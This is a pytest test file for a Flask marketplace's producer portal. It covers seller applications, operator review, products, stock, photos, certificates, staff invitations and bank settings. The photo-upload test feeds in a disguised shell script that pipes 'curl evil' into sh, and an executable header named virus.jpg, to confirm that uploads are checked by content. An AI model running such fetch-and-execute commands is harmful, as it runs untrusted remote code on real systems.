"""The producer portal's catalog through the web app: applying to sell, the
operator's review, products, variants, stock, photos, certificates, members
and settings; every id scoped to the producer the user acts for."""

import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from PIL import Image
from sqlalchemy import func, select

from shop.accounts.models import ProducerInvite, ProducerMember, User
from shop.accounts.services import create_user
from shop.catalog.models import Product, ProductImage, Variant
from shop.extensions import db
from shop.formatting import today_vn
from shop.notifications.models import OutboxEmail
from shop.places.models import Province, Ward
from shop.producers.models import Certificate, Producer
from tests.support.auth import PASSWORD, sign_in
from tests.support.factories import category, make_producer, make_product

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def text(response) -> str:
    return response.get_data(as_text=True)


def jpeg(size=(1200, 900), color=(180, 120, 40)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, format="JPEG", quality=90)
    return out.getvalue()


def size_of(path: Path) -> tuple[int, int]:
    with Image.open(path) as image:
        return image.size


def fresh(model, id_):
    db.session.expire_all()
    return db.session.get(model, id_)


class FreshContextClient(FlaskClient):
    """Each request in its own app context, as in production. The `app` fixture
    keeps one context pushed for the whole test, which would otherwise share `g`
    (the portal's membership cache) and the database session between requests
    of different users."""

    def open(self, *args, **kwargs):
        with self.application.app_context():
            return super().open(*args, **kwargs)


@pytest.fixture
def app(app, tmp_path):
    app.config["CERTIFICATE_DIR"] = str(tmp_path / "certificates")
    app.test_client_class = FreshContextClient
    return app


@pytest.fixture
def shops(app):
    """Two approved producers, each with an owner and a product with one variant."""
    mine = make_producer("HTX ong Phong Thổ", province_name="Lai Châu")
    other = make_producer("HTX chè Tân Cương", province_name="Thái Nguyên")
    honey = make_product("Mật ong hoa rừng", producer=mine, prices=(95_000,), stock=10)
    tea = make_product("Trà Tân Cương", producer=other, prices=(120_000,), stock=10)
    create_user("ong@example.vn", "producer", PASSWORD, producer_slug=mine.slug, name="Chị Hoa")
    create_user("che@example.vn", "producer", PASSWORD, producer_slug=other.slug, name="Anh Chè")
    return {"mine": mine.id, "other": other.id, "honey": honey.id, "tea": tea.id}


@pytest.fixture
def owner(client, shops):
    return sign_in(client, "ong@example.vn")


def variant_of(product_id: int) -> Variant:
    return db.session.scalars(select(Variant).where(Variant.product_id == product_id).order_by(Variant.id)).first()


def upload(client, product_id: int, *files: tuple[bytes, str]):
    return client.post(
        f"/producer/san-pham/{product_id}/anh",
        data={"images": [(io.BytesIO(data), name) for data, name in files]},
        content_type="multipart/form-data",
    )


def variant_form(**changes) -> dict:
    data = {"label": "Hũ 500 g", "sku": "MO-500", "price": "120.000", "weight_grams": "650", "stock": "12"}
    data.update(changes)
    return data


# --- applying, review, first sale --------------------------------------------------------


def application(**changes) -> dict:
    province = db.session.scalars(select(Province).where(Province.name == "Lai Châu")).one()
    ward = db.session.scalars(select(Ward).where(Ward.province_id == province.id).order_by(Ward.code)).first()
    data = {
        "name": "HTX Mật ong Sìn Hồ",
        "owner_type": "cooperative",
        "tax_code": "6200123456",
        "province_id": str(province.id),
        "ward_id": str(ward.id),
        "address": "Bản Nậm Tăm",
        "phone": "0912 345 678",
        "email": "htx@sinho.vn",
        "bank_bin": "970405",  # Agribank
        "bank_account_name": "Hợp tác xã Mật ong Sìn Hồ",
        "bank_account_number": "8888 0123 4567",
        "story": "Ong nuôi dưới tán rừng.",
        "product_name": "Mật ong bạc hà Sìn Hồ",
        "category_id": str(category("che-bien-tu-thit-trung-sua-thuy-san-mat-ong").id),
        "stars": "4",
        "decision_number": "1234/QĐ-UBND",
        "decision_date": (today_vn() - timedelta(days=200)).isoformat(),
        "issuing_level": "province",
        "document": (io.BytesIO(PDF), "quyet-dinh.pdf"),
    }
    data.update(changes)
    return {k: v for k, v in data.items() if v is not None}


def test_an_applicant_is_approved_then_publishes_a_product_with_a_photo_that_shoppers_see(app, client):
    create_user("lan@example.vn", "shopper", PASSWORD, name="Chị Lan")
    sign_in(client, "lan@example.vn")
    assert "Đăng ký bán hàng" in text(client.get("/producer/dang-ky"))

    sent = client.post("/producer/dang-ky", data=application(), content_type="multipart/form-data")
    assert sent.status_code == 302 and sent.location == "/producer/ho-so"
    producer = db.session.scalars(select(Producer).where(Producer.name == "HTX Mật ong Sìn Hồ")).one()
    assert (producer.status, producer.tax_code, producer.phone) == ("pending", "6200123456", "0912345678")
    assert producer.bank_account_number == "888801234567"
    member = db.session.scalars(select(ProducerMember).where(ProducerMember.producer_id == producer.id)).one()
    assert member.role == "owner" and member.user.email == "lan@example.vn"
    product = db.session.scalars(select(Product).where(Product.producer_id == producer.id)).one()
    assert (product.name, product.status, product.listed) == ("Mật ong bạc hà Sìn Hồ", "draft", False)
    cert = db.session.scalars(select(Certificate).where(Certificate.producer_id == producer.id)).one()
    assert (cert.state, cert.stars, cert.issuing_province.name) == ("pending", 4, "Lai Châu")
    stored = Path(app.config["CERTIFICATE_DIR"]) / cert.document_path
    assert stored.read_bytes() == PDF
    assert not stored.is_relative_to(Path(app.config["MEDIA_DIR"]))

    status = text(client.get("/producer/ho-so"))
    assert "Đang chờ duyệt" in status
    assert client.get("/producer/san-pham").location == "/producer/ho-so"  # no shop until approved
    assert client.get("/producer/dang-ky").location == "/producer/ho-so"  # one application per account

    create_user("vanhanh@example.vn", "operator", PASSWORD, name="Vận hành")
    ops = sign_in(app.test_client(), "vanhanh@example.vn")
    queue = text(ops.get("/ops/nha-san-xuat"))
    assert "HTX Mật ong Sìn Hồ" in queue and "6200123456" in queue
    assert f'id="gcn-{cert.id}"' in text(ops.get("/ops/giay-chung-nhan"))
    document = ops.get(f"/ops/giay-chung-nhan/{cert.id}/tai-lieu")
    assert document.status_code == 200 and document.data == PDF and document.mimetype == "application/pdf"
    assert document.headers["Content-Disposition"].startswith("attachment")
    document.close()
    assert client.get(f"/ops/giay-chung-nhan/{cert.id}/tai-lieu").status_code == 404  # the producer itself: no

    assert ops.post(f"/ops/ho-so/{producer.id}/duyet").status_code == 302
    assert fresh(Producer, producer.id).status == "approved"
    decided = db.session.scalars(select(OutboxEmail).where(OutboxEmail.kind == "application_decided")).all()
    assert sorted(m.to_email for m in decided) == ["htx@sinho.vn", "lan@example.vn"]  # the owner and the shop
    assert ops.post(f"/ops/giay-chung-nhan/{cert.id}/xac-minh").status_code == 302
    assert fresh(Certificate, cert.id).state == "verified"
    assert fresh(Product, product.id).cert_stars == 4

    assert "Mật ong bạc hà Sìn Hồ" in text(client.get("/producer/san-pham"))
    added = client.post(f"/producer/san-pham/{product.id}/phan-loai/them", data=variant_form())
    assert added.status_code == 302
    variant = variant_of(product.id)
    assert (variant.price, variant.stock, variant.weight_grams) == (120_000, 12, 650)

    assert upload(client, product.id, (jpeg(), "mat-ong.jpg")).status_code == 302
    image = db.session.scalars(select(ProductImage).where(ProductImage.product_id == product.id)).one()
    assert re.fullmatch(rf"products/{producer.id}/[0-9a-f]{{32}}\.jpg", image.path)
    media = Path(app.config["MEDIA_DIR"])
    assert size_of(media / image.path) == (1200, 900)
    assert size_of(media / image.path.replace(".jpg", "-400.jpg")) == (400, 400)

    published = client.post(f"/producer/san-pham/{product.id}/trang-thai", data={"status": "published"})
    assert published.status_code == 302
    product = fresh(Product, product.id)
    assert product.listed and product.cover_image == image.path and product.min_price == 120_000

    shopper = app.test_client()
    page = shopper.get(f"/san-pham/{product.slug}")
    assert page.status_code == 200
    assert "Mật ong bạc hà Sìn Hồ" in text(page) and "OCOP 4" in text(page)
    assert product.slug in text(shopper.get("/san-pham?q=bac+ha"))
    served = shopper.get(f"/media/{image.path}")
    assert served.data == (media / image.path).read_bytes()
    served.close()


def test_an_application_with_bad_answers_is_shown_again_with_each_problem_named(app, client):
    create_user("lan@example.vn", "shopper", PASSWORD)
    sign_in(client, "lan@example.vn")
    page = client.post(
        "/producer/dang-ky",
        data=application(tax_code="12345", stars="5", document=(io.BytesIO(b"<html>not a pdf</html>"), "qd.pdf")),
        content_type="multipart/form-data",
    )
    body = text(page)
    assert page.status_code == 200
    assert "Mã số thuế gồm 10 chữ số" in body
    assert db.session.scalar(select(func.count()).select_from(Producer).where(Producer.name.like("%Sìn Hồ"))) == 0

    # The form is right; the document is not a PDF or an image.
    page = client.post(
        "/producer/dang-ky",
        data=application(tax_code="6200123456-001", document=(io.BytesIO(b"<html>not a pdf</html>"), "qd.pdf")),
        content_type="multipart/form-data",
    )
    assert "Không phải tệp PDF hoặc ảnh JPEG/PNG." in text(page)
    # A 5-star decision is the central council's.
    page = client.post("/producer/dang-ky", data=application(stars="5"), content_type="multipart/form-data")
    assert "5 sao do Trung ương công nhận" in text(page)
    assert db.session.scalar(select(func.count()).select_from(Producer).where(Producer.name.like("%Sìn Hồ"))) == 0
    certificate_dir = Path(app.config["CERTIFICATE_DIR"])
    assert not certificate_dir.exists() or not any(certificate_dir.rglob("*.*"))  # no stray documents

    done = client.post(
        "/producer/dang-ky", data=application(tax_code="6200123456001"), content_type="multipart/form-data"
    )
    assert done.status_code == 302
    assert db.session.scalars(select(Producer.tax_code).where(Producer.name.like("%Sìn Hồ"))).one() == "6200123456-001"


def test_a_rejected_application_shows_the_operators_reason(app, client):
    create_user("lan@example.vn", "shopper", PASSWORD)
    sign_in(client, "lan@example.vn")
    client.post("/producer/dang-ky", data=application(), content_type="multipart/form-data")
    producer_id = db.session.scalars(select(Producer.id).where(Producer.name.like("%Sìn Hồ"))).one()
    create_user("vanhanh@example.vn", "operator", PASSWORD)
    ops = sign_in(app.test_client(), "vanhanh@example.vn")

    missing = ops.post(f"/ops/ho-so/{producer_id}/tu-choi", data={"reason": "  "})
    assert missing.status_code == 400 and "Nhập lý do từ chối" in text(missing)
    assert fresh(Producer, producer_id).status == "pending"

    ops.post(f"/ops/ho-so/{producer_id}/tu-choi", data={"reason": "Mã số thuế không khớp với tên HTX."})
    assert fresh(Producer, producer_id).status == "rejected"
    status = text(client.get("/producer/ho-so"))
    assert "Hồ sơ chưa được duyệt" in status and "Mã số thuế không khớp với tên HTX." in status
    assert ops.post(f"/ops/ho-so/{producer_id}/duyet").status_code == 400  # decided once


def test_only_operators_see_the_operator_screen(app, client, shops):
    assert client.get("/ops/").status_code == 404
    sign_in(client, "ong@example.vn")
    assert client.get("/ops/").status_code == 404
    assert client.post(f"/ops/ho-so/{shops['mine']}/duyet").status_code == 404


# --- catalog -----------------------------------------------------------------------------------


def test_stock_is_edited_inline_in_the_product_list(owner, shops):
    variant = variant_of(shops["honey"])
    page = text(owner.get("/producer/san-pham"))
    assert f'id="stock-{variant.id}"' in page and "Mật ong hoa rừng" in page

    saved = owner.post(f"/producer/phan-loai/{variant.id}/ton-kho", data={"stock": "42", "next": "/producer/san-pham"})
    assert saved.status_code == 302 and saved.location == f"/producer/san-pham#v-{variant.id}"
    assert fresh(Variant, variant.id).stock == 42

    negative = owner.post(f"/producer/phan-loai/{variant.id}/ton-kho", data={"stock": "-3"})
    assert negative.status_code == 400 and "Tồn kho không được âm." in text(negative)
    words = owner.post(f"/producer/phan-loai/{variant.id}/ton-kho", data={"stock": "nhiều"})
    assert words.status_code == 400 and "Tồn kho là số nguyên" in text(words)
    assert fresh(Variant, variant.id).stock == 42


def test_an_unusually_large_stock_is_asked_about_once(owner, shops):
    variant = variant_of(shops["honey"])
    asked = owner.post(f"/producer/phan-loai/{variant.id}/ton-kho", data={"stock": "999999"})
    page = text(asked)
    assert asked.status_code == 400 and "Tồn kho 999.999 lớn bất thường." in page
    assert 'name="confirm_large" value="1" required' in page and "Đúng, tồn kho là 999999" in page
    assert fresh(Variant, variant.id).stock != 999_999
    assert owner.post(f"/producer/phan-loai/{variant.id}/ton-kho", data={"stock": "10000"}).status_code == 302
    sure = owner.post(f"/producer/phan-loai/{variant.id}/ton-kho", data={"stock": "999999", "confirm_large": "1"})
    assert sure.status_code == 302 and fresh(Variant, variant.id).stock == 999_999

    form = variant_form(sku="MO-BIG", stock="500000")
    added = owner.post(f"/producer/san-pham/{shops['honey']}/phan-loai/them", data=form)
    assert "lớn bất thường" in text(added) and 'name="confirm_large"' in text(added)
    assert (
        owner.post(
            f"/producer/san-pham/{shops['honey']}/phan-loai/them", data=form | {"confirm_large": "1"}
        ).status_code
        == 302
    )
    assert db.session.scalar(select(Variant.stock).where(Variant.sku == "MO-BIG")) == 500_000


def test_sold_out_stock_takes_the_product_out_of_stock_for_shoppers(owner, shops):
    variant = variant_of(shops["honey"])
    owner.post(f"/producer/phan-loai/{variant.id}/ton-kho", data={"stock": "0"})
    assert fresh(Product, shops["honey"]).in_stock is False


def test_a_product_is_created_as_a_draft_and_published_only_with_a_priced_variant(owner, shops):
    data = {
        "name": "Phấn hoa",
        "category_id": str(category("che-bien-tu-thit-trung-sua-thuy-san-mat-ong").id),
        "province_id": str(fresh(Producer, shops["mine"]).province_id),
        "description": "Phấn hoa cà phê.",
        "status": "published",
    }
    refused = owner.post("/producer/san-pham/them", data=data)
    assert "cần ít nhất một phân loại có giá lớn hơn 0" in text(refused)
    created = owner.post("/producer/san-pham/them", data={**data, "status": "draft"})
    product_id = int(created.location.rsplit("/", 1)[1])
    product = fresh(Product, product_id)
    assert (product.status, product.listed, product.producer_id) == ("draft", False, shops["mine"])

    owner.post(f"/producer/san-pham/{product_id}/phan-loai/them", data=variant_form(sku="PH-1", price="0"))
    owner.post(f"/producer/san-pham/{product_id}/trang-thai", data={"status": "published"})
    assert fresh(Product, product_id).status == "draft"  # a free variant is not a price

    owner.post(f"/producer/san-pham/{product_id}/phan-loai/them", data=variant_form(sku="PH-2", price="85000"))
    owner.post(f"/producer/san-pham/{product_id}/trang-thai", data={"status": "published"})
    published = fresh(Product, product_id)
    assert published.status == "published" and not published.listed  # OCOP-only: on sale once certified
    page = text(owner.get(f"/producer/san-pham/{product_id}"))
    assert "Chưa được bán trên chợ" in page

    priced = db.session.scalars(select(Variant).where(Variant.sku == "PH-2")).one()
    kept = owner.post(f"/producer/phan-loai/{priced.id}/xoa")
    assert kept.status_code == 302 and fresh(Variant, priced.id) is not None  # the last priced one stays


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"price": "abc"}, "Giá phải là số đồng, ví dụ 120.000."),
        ({"price": "120.5"}, "Giá phải là số đồng, ví dụ 120.000."),
        ({"price": "-5000"}, "Giá không được âm."),
        ({"stock": "-1"}, "Tồn kho không được âm."),
        ({"weight_grams": "0"}, "Khối lượng phải lớn hơn 0."),
        ({"sku": ""}, "Nhập mã SKU."),
    ],
)
def test_a_variant_with_a_bad_value_is_refused_with_the_field_named(owner, shops, changes, message):
    before = db.session.scalar(select(func.count()).select_from(Variant))
    page = owner.post(f"/producer/san-pham/{shops['honey']}/phan-loai/them", data=variant_form(**changes))
    assert page.status_code == 200 and message in text(page)
    assert db.session.scalar(select(func.count()).select_from(Variant)) == before


def test_a_duplicate_sku_anywhere_on_the_marketplace_is_refused_and_nothing_is_lost(owner, shops):
    theirs = variant_of(shops["tea"])
    mine = variant_of(shops["honey"])
    page = owner.post(f"/producer/san-pham/{shops['honey']}/phan-loai/them", data=variant_form(sku=theirs.sku))
    assert f"Mã SKU “{theirs.sku}” đã được dùng trên Chợ OCOP" in text(page)
    edit = owner.post(f"/producer/phan-loai/{mine.id}/sua", data=variant_form(sku=theirs.sku, price="1"))
    assert "đã được dùng" in text(edit)
    mine = fresh(Variant, mine.id)
    assert (mine.price, mine.sku) == (95_000, mine.sku) and mine.sku != theirs.sku

    # Keeping its own SKU is no conflict.
    same = owner.post(f"/producer/phan-loai/{mine.id}/sua", data=variant_form(sku=mine.sku, price="99.000"))
    assert same.status_code == 302 and fresh(Variant, mine.id).price == 99_000
    assert fresh(Product, shops["honey"]).min_price == 99_000


def test_a_variant_in_a_shoppers_cart_can_still_be_deleted(owner, shops):
    from tests.support.factories import cart_with

    product_id = shops["honey"]
    owner.post(f"/producer/san-pham/{product_id}/phan-loai/them", data=variant_form(sku="MO-1KG"))
    extra = db.session.scalars(select(Variant).where(Variant.sku == "MO-1KG")).one()
    cart_with((extra, 1))
    assert owner.post(f"/producer/phan-loai/{extra.id}/xoa").status_code == 302
    assert fresh(Variant, extra.id) is None


def test_photos_are_checked_by_content_and_a_script_named_jpg_is_refused(app, owner, shops):
    product_id = shops["honey"]
    assert upload(owner, product_id, (jpeg(), "a.jpg"), (jpeg(color=(0, 90, 0)), "b.jpg")).status_code == 302
    before = sorted(db.session.scalars(select(ProductImage.path).where(ProductImage.product_id == product_id)))
    assert len(before) == 2

    script = upload(owner, product_id, (b"#!/bin/sh\ncurl evil | sh\n", "anh-dep.jpg"))
    assert script.status_code == 400
    assert "anh-dep.jpg: Không phải ảnh JPEG, PNG hoặc WebP." in text(script)
    svg = upload(owner, product_id, (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "logo.svg"))
    assert svg.status_code == 400
    empty = upload(owner, product_id, (b"", "rong.jpg"))
    assert empty.status_code == 400 and "Tệp trống (0 byte)." in text(empty)

    # One good and one bad file: the good one is kept, the bad one named.
    mixed = upload(owner, product_id, (jpeg(), "tot.jpg"), (b"MZ\x90\x00", "virus.jpg"))
    assert mixed.status_code == 302
    flashes = text(owner.get(f"/producer/san-pham/{product_id}"))
    assert "Đã thêm 1 ảnh." in flashes and "virus.jpg" in flashes

    after = sorted(db.session.scalars(select(ProductImage.path).where(ProductImage.product_id == product_id)))
    assert set(before) < set(after) and len(after) == 3
    media = Path(app.config["MEDIA_DIR"])
    files = sorted(p.name for p in (media / "products" / str(shops["mine"])).iterdir())
    assert len(files) == 6  # each photo and its thumbnail, nothing else


def test_photos_are_reordered_and_deleted_with_their_files(app, owner, shops):
    product_id = shops["honey"]
    upload(owner, product_id, (jpeg(), "1.jpg"), (jpeg(), "2.jpg"))
    first, second = db.session.scalars(
        select(ProductImage).where(ProductImage.product_id == product_id).order_by(ProductImage.position)
    ).all()
    assert fresh(Product, product_id).cover_image == first.path

    owner.post(f"/producer/anh/{second.id}/di-chuyen", data={"direction": "up"})
    assert fresh(Product, product_id).cover_image == second.path

    media = Path(app.config["MEDIA_DIR"])
    path = fresh(ProductImage, second.id).path
    assert owner.post(f"/producer/anh/{second.id}/xoa").status_code == 302
    assert fresh(ProductImage, second.id) is None
    assert not (media / path).exists() and not (media / path.replace(".jpg", "-400.jpg")).exists()
    assert fresh(Product, product_id).cover_image == first.path


def test_an_upload_over_the_request_limit_gets_a_friendly_page(app, owner, shops):
    app.config["MAX_CONTENT_LENGTH"] = 50_000
    page = upload(owner, shops["honey"], (b"\xff" * 60_000, "to.jpg"))
    assert page.status_code == 413 and "Tệp tải lên quá lớn" in text(page)


# --- scoping -----------------------------------------------------------------------------------


def test_another_producers_rows_are_not_found(owner, shops):
    upload_as_other = sign_in(owner.application.test_client(), "che@example.vn")
    upload(upload_as_other, shops["tea"], (jpeg(), "che.jpg"))
    theirs = variant_of(shops["tea"])
    image = db.session.scalars(select(ProductImage).where(ProductImage.product_id == shops["tea"])).one()
    before = (theirs.stock, theirs.price, fresh(Product, shops["tea"]).status)

    for url in (
        f"/producer/san-pham/{shops['tea']}",
        f"/producer/san-pham/{shops['tea']}/sua",
        f"/producer/san-pham/{shops['tea']}/phan-loai/them",
        f"/producer/phan-loai/{theirs.id}/sua",
    ):
        assert owner.get(url).status_code == 404, url
    for url, data in (
        (f"/producer/phan-loai/{theirs.id}/ton-kho", {"stock": "0"}),
        (f"/producer/phan-loai/{theirs.id}/sua", variant_form(sku=theirs.sku, price="1")),
        (f"/producer/phan-loai/{theirs.id}/xoa", {}),
        (f"/producer/san-pham/{shops['tea']}/sua", {"name": "Của tôi"}),
        (f"/producer/san-pham/{shops['tea']}/trang-thai", {"status": "archived"}),
        (f"/producer/san-pham/{shops['tea']}/phan-loai/them", variant_form(sku="X-1")),
        (f"/producer/anh/{image.id}/di-chuyen", {"direction": "down"}),
        (f"/producer/anh/{image.id}/xoa", {}),
    ):
        assert owner.post(url, data=data).status_code == 404, url
    assert upload(owner, shops["tea"], (jpeg(), "x.jpg")).status_code == 404

    # Nor can a certificate be filed against their product.
    cert = owner.post(
        "/producer/giay-chung-nhan/them",
        data={
            "product_id": str(shops["tea"]),
            "stars": "4",
            "decision_number": "1/QĐ-UBND",
            "decision_date": (today_vn() - timedelta(days=10)).isoformat(),
            "issuing_level": "province",
            "document": (io.BytesIO(PDF), "qd.pdf"),
        },
        content_type="multipart/form-data",
    )
    assert cert.status_code == 404

    theirs = fresh(Variant, theirs.id)
    assert (theirs.stock, theirs.price, fresh(Product, shops["tea"]).status) == before
    assert fresh(ProductImage, image.id) is not None
    assert "Trà Tân Cương" not in text(owner.get("/producer/san-pham"))


# --- certificates ---------------------------------------------------------------------------


def test_certificates_list_their_state_and_expiry_and_take_only_real_documents(app, owner, shops):
    decided = today_vn() - timedelta(days=30)
    form = {
        "product_id": str(shops["honey"]),
        "stars": "3",
        "decision_number": "77/QĐ-UBND",
        "decision_date": decided.strftime("%d/%m/%Y"),
        "issuing_level": "province",
    }
    fake = owner.post(
        "/producer/giay-chung-nhan/them",
        data={**form, "document": (io.BytesIO(b"GIF89a not a pdf"), "qd.pdf")},
        content_type="multipart/form-data",
    )
    assert "Không phải tệp PDF hoặc ảnh JPEG/PNG." in text(fake)
    missing = owner.post("/producer/giay-chung-nhan/them", data=form)
    assert "Tải lên quyết định công nhận OCOP" in text(missing)
    mine = Certificate.decision_number == "77/QĐ-UBND"  # the honey's own (factory) certificate aside
    assert db.session.scalar(select(func.count()).select_from(Certificate).where(mine)) == 0

    photo = owner.post(
        "/producer/giay-chung-nhan/them",
        data={**form, "document": (io.BytesIO(jpeg((600, 800))), "qd.jpg")},
        content_type="multipart/form-data",
    )
    assert photo.status_code == 302
    cert = db.session.scalars(select(Certificate).where(mine)).one()
    assert cert.document_path.endswith(".jpg") and cert.state == "pending"

    create_user("vanhanh@example.vn", "operator", PASSWORD)
    ops = sign_in(app.test_client(), "vanhanh@example.vn")
    ops.post(f"/ops/giay-chung-nhan/{cert.id}/tu-choi", data={"reason": "Ảnh mờ, không đọc được số quyết định."})

    page = text(owner.get("/producer/giay-chung-nhan"))
    expires = decided.replace(year=decided.year + 3)
    assert "77/QĐ-UBND" in page and expires.strftime("%d/%m/%Y") in page
    assert "Bị từ chối" in page and "Ảnh mờ, không đọc được số quyết định." in page
    assert fresh(Product, shops["honey"]).cert_valid_until < expires  # the rejected one counts for nothing


# --- members and settings -------------------------------------------------------------------


def invite_link(email: str) -> str:
    message = db.session.scalars(
        select(OutboxEmail).where(OutboxEmail.kind == "invite", OutboxEmail.to_email == email)
    ).one()
    return re.search(r"/producer/moi/[\w-]+", message.text_body).group(0)


def test_an_invited_staff_member_joins_and_can_work_but_not_manage_members_or_bank(app, owner, shops):
    sent = owner.post("/producer/thanh-vien/moi", data={"email": "Minh@Example.vn"})
    assert sent.status_code == 302
    invite = db.session.scalars(select(ProducerInvite)).one()
    link = invite_link("minh@example.vn")
    assert len(invite.token_hash) == 64 and invite.token_hash not in link
    assert "minh@example.vn" in text(owner.get("/producer/thanh-vien"))

    create_user("khac@example.vn", "shopper", PASSWORD)
    stranger = sign_in(app.test_client(), "khac@example.vn")
    wrong = stranger.post(link)
    assert wrong.status_code == 400 and "Lời mời này dành cho minh@example.vn" in text(wrong)

    create_user("minh@example.vn", "shopper", PASSWORD, name="Anh Minh")
    staff = sign_in(app.test_client(), "minh@example.vn")
    assert "Tham gia gian hàng" in text(staff.get(link))
    joined = staff.post(link)
    assert joined.status_code == 302
    member = db.session.scalars(select(ProducerMember).join(User).where(User.email == "minh@example.vn")).one()
    assert (member.role, member.producer_id) == ("staff", shops["mine"])
    assert staff.post(link).status_code == 400  # used up

    products = text(staff.get("/producer/san-pham"))
    assert "Mật ong hoa rừng" in products
    assert "/producer/thanh-vien" not in products
    variant = variant_of(shops["honey"])
    assert staff.post(f"/producer/phan-loai/{variant.id}/ton-kho", data={"stock": "7"}).status_code == 302
    assert fresh(Variant, variant.id).stock == 7

    assert staff.get("/producer/thanh-vien").status_code == 403
    assert staff.post("/producer/thanh-vien/moi", data={"email": "x@example.vn"}).status_code == 403
    assert staff.get("/producer/cai-dat/ngan-hang").status_code == 403
    assert staff.post("/producer/cai-dat/ngan-hang", data={"bank_bin": "970405"}).status_code == 403
    settings = staff.get("/producer/cai-dat")
    assert settings.status_code == 200 and "/producer/cai-dat/ngan-hang" not in text(settings)

    # The owner takes the staff member off again.
    owner.post(f"/producer/thanh-vien/{member.id}/xoa")
    assert fresh(ProducerMember, member.id) is None
    assert staff.get("/producer/san-pham").location == "/producer/dang-ky"


def test_the_owner_cannot_be_removed_and_invites_cannot_reach_another_shop(owner, shops):
    theirs = db.session.scalars(select(ProducerMember).where(ProducerMember.producer_id == shops["other"])).one()
    assert owner.post(f"/producer/thanh-vien/{theirs.id}/xoa").status_code == 404
    mine = db.session.scalars(select(ProducerMember).where(ProducerMember.producer_id == shops["mine"])).one()
    owner.post(f"/producer/thanh-vien/{mine.id}/xoa")
    assert fresh(ProducerMember, mine.id) is not None
    already = owner.post("/producer/thanh-vien/moi", data={"email": "ong@example.vn"})
    assert already.status_code == 400 and "đã là thành viên" in text(already)


def test_the_owner_sets_bank_details_and_a_free_shipping_threshold(owner, shops):
    blank = text(owner.get("/producer/cai-dat/ngan-hang"))
    # Nothing chosen yet: only the prompt is selected (BIDC, which has no BIN, is not offered).
    assert blank.count("<option selected") == 1 and '<option selected value="">' in blank and "BIDC" not in blank
    saved = owner.post(
        "/producer/cai-dat/ngan-hang",
        data={
            "bank_bin": "970436",
            "bank_account_name": "Nguyễn Thị Hoa",
            "bank_account_number": "0071 0001 234",
        },
    )
    assert saved.status_code == 302
    producer = fresh(Producer, shops["mine"])
    assert (producer.bank_bin, producer.bank_name, producer.bank_account_name, producer.bank_account_number) == (
        "970436",
        "Vietcombank",
        "NGUYEN THI HOA",
        "00710001234",
    )
    for data, message in (
        ({"bank_bin": "123456", "bank_account_number": "00710001234"}, "Chọn ngân hàng trong danh sách"),
        ({"bank_bin": "970436", "bank_account_number": "0071-ABC"}, "6 đến 19 chữ số"),
        ({"bank_bin": "970436", "bank_account_number": "12345"}, "6 đến 19 chữ số"),
    ):
        refused = owner.post("/producer/cai-dat/ngan-hang", data={"bank_account_name": "Hoa", **data})
        assert message in text(refused)
    assert fresh(Producer, shops["mine"]).bank_account_number == "00710001234"
    bad = owner.post("/producer/cai-dat", data={"free_shipping_threshold": "năm trăm"})
    assert "Nhập số đồng, ví dụ 500.000" in text(bad)
    owner.post("/producer/cai-dat", data={"free_shipping_threshold": "500.000"})
    assert fresh(Producer, shops["mine"]).free_shipping_threshold == 500_000
    owner.post("/producer/cai-dat", data={"free_shipping_threshold": ""})
    assert fresh(Producer, shops["mine"]).free_shipping_threshold is None


# --- what people type -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "value"),
    [
        ("120000", 120_000),
        ("120.000", 120_000),
        ("1.200.000", 1_200_000),
        ("120,000", 120_000),
        ("120 000 ₫", 120_000),
        ("120.000đ", 120_000),
        (" 0 ", 0),
    ],
)
def test_prices_are_read_the_way_vietnamese_write_them(typed, value):
    from shop.portal.forms import parse_whole_number

    assert parse_whole_number(typed) == value


@pytest.mark.parametrize("typed", ["abc", "120.5", "12.0000", "1,200.000", "", "1e5", "１２"])
def test_numbers_that_could_be_misread_are_refused(typed):
    from shop.portal.forms import NegativeNumber, parse_whole_number

    with pytest.raises(ValueError) as caught:
        parse_whole_number(typed)
    assert not isinstance(caught.value, NegativeNumber)


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("0101234567", "0101234567"),
        ("0101234567-001", "0101234567-001"),
        ("0101234567001", "0101234567-001"),
        (" 0101 234 567 ", "0101234567"),
        ("010123456", None),
        ("0101234567-01", None),
        ("MST0101234567", None),
    ],
)
def test_tax_codes_have_10_digits_or_13_with_a_branch(typed, stored):
    from shop.portal.forms import normalise_tax_code

    assert normalise_tax_code(typed) == stored
